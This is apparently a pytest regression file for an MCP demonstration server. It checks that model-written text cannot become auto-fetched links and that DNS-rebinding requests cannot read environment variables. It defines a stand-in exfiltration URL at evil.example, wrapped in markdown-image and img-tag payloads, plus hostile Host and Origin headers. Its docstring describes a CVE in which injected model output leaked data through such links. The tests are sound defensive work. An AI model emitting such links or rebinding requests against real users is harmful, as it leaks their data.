"""What was wrong with demonstration servers: rebinding that reads the environment, links that fetch themselves.

CVE-2025-34072: what a model wrote, led by what it had read, was shown by a server as a link that clients fetch on their
own, and carried data away with it.
"""

import asyncio
import json
import os
import re
from collections.abc import Iterator
from typing import Any

import aiohttp
import pytest

from servers.test_everything import opened
from splice.servers.everything.server import make
from support.caller import Caller, said
from support.listening import listening
from support.wire import JSON

EVIL = "https://evil.example/leak?q=secret"
MARKUP = f"![x]({EVIL}) <img src='{EVIL}'> [x]({EVIL}) {EVIL}"
REPEATS = {"echo", "echo-mirrored-header", "trigger-url-elicitation"}
"""Tools whose text repeats an argument, as their contract says: text, and nothing that leads anywhere by itself."""

HOSTS = [
    {"Host": "evil.example"},
    {"Host": "evil.example:8000", "Origin": "http://evil.example:8000"},
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
]


def by_tool() -> dict[str, JSON]:
    """Hostile arguments, wherever an argument takes text."""
    return {
        "echo": {"message": MARKUP},
        "echo-mirrored-header": {"region": MARKUP[:100]},
        "gzip-file-as-resource": {"name": MARKUP[:100], "data": "data:," + EVIL},
        "trigger-url-elicitation": {"url": EVIL, "message": MARKUP},
        "trigger-sampling-request": {"prompt": MARKUP},
        "trigger-sampling-with-tools": {"prompt": MARKUP},
    }


def links(value: Any) -> Iterator[str]:
    """Find all that a client may fetch or show by itself: URIs of blocks, icons, and metadata."""
    if isinstance(value, dict):
        for name, each in value.items():
            if name != "text":
                yield from [each] if isinstance(each, str) and re.match(r"[a-z]+:", each) else links(each)
    elif isinstance(value, list):
        for each in value:
            yield from links(each)


@pytest.mark.parametrize("era", ["legacy", "modern"])
async def test_nothing_that_a_model_wrote_becomes_a_link_that_is_fetched(era: str) -> None:
    caller = await opened(era)
    answers: dict[str, JSON] = {
        "elicitation/create": {"action": "accept"},
        "sampling/createMessage": said("done"),
        "roots/list": {"roots": []},
    }
    caller._answers = lambda method, _: answers[method]
    hostile, listed = by_tool(), (await caller.result("tools/list"))["tools"]
    free = {
        tool["name"] for tool in listed if any(takes_text(each) for each in tool["inputSchema"]["properties"].values())
    }
    assert free == hostile.keys(), "a tool that takes text is not among those that are tried here"
    for tool, arguments in hostile.items():
        result = await caller.call(tool, arguments)
        if tool == "gzip-file-as-resource":
            assert result["isError"], "the name of a link is the name of a file"
            result = await caller.call(tool, {**arguments, "name": "x.gz"})
        assert {link.partition(":")[0] for link in links(result["content"])} <= {"demo"}, tool
        text = json.dumps(result)
        assert ("evil.example" in text) == (tool in REPEATS), tool
        assert ("![" in text) == tool.startswith("echo"), tool
    caller.session.end()


def takes_text(schema: JSON) -> bool:
    return schema.get("type") == "string" and "enum" not in schema


async def test_a_link_for_the_user_is_only_a_question() -> None:
    caller = await opened("legacy")
    caller._answers = lambda *_: {"action": "decline"}
    result = await caller.call("trigger-url-elicitation", {"url": EVIL})
    assert "evil.example" not in json.dumps(result)


@pytest.mark.parametrize("headers", HOSTS, ids=str)
async def test_a_page_that_points_its_name_here_reads_nothing(headers: dict[str, str]) -> None:
    stamp = {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientInfo": {"name": "x", "version": "1"},
        "io.modelcontextprotocol/clientCapabilities": {},
    }
    params = {"name": "get-env", "arguments": {}, "_meta": stamp}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
    plain = {
        "Accept": "application/json, text/event-stream",
        "MCP-Protocol-Version": "2026-07-28",
        "Mcp-Method": "tools/call",
        "Mcp-Name": "get-env",
    }
    app = make(show_env=True).http_app()
    async with listening(app) as url, aiohttp.ClientSession() as web, asyncio.timeout(5):
        async with web.post(url, json=call, headers=plain) as answer:
            assert answer.status == 200
            assert "PATH" in await answer.text()
        async with web.post(url, json=call, headers={**plain, **headers}) as answer:
            assert answer.status in {403, 421}
            assert "PATH" not in await answer.text()
            assert "Access-Control-Allow-Origin" not in answer.headers


async def test_the_environment_is_told_by_name_only_unless_the_user_says_otherwise(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("API_TOKEN", "s3cr3t")
    told = json.loads(await (await opened("modern")).text("get-env"))
    assert told.keys() == os.environ.keys()
    assert set(told.values()) == {"(hidden: start the server with --show-env to see values)"}
    told = json.loads(await (await Caller(make(show_env=True)).open()).text("get-env"))
    assert told["API_TOKEN"] == "s3cr3t"
